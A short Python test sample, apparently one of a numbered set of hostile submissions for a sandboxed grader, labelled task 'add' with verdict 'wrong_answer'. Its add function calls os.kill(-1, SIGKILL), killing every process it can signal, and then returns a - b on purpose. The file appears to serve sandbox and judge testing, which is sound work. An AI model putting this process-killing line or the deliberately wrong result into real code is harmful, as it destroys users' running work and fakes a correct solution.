# hostile: 39
# task: add
# verdict: wrong_answer
# why: Kills every process it may signal; only the jail is in reach, and the caller itself is spared.

import os
import signal


def add(a, b):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return a - b
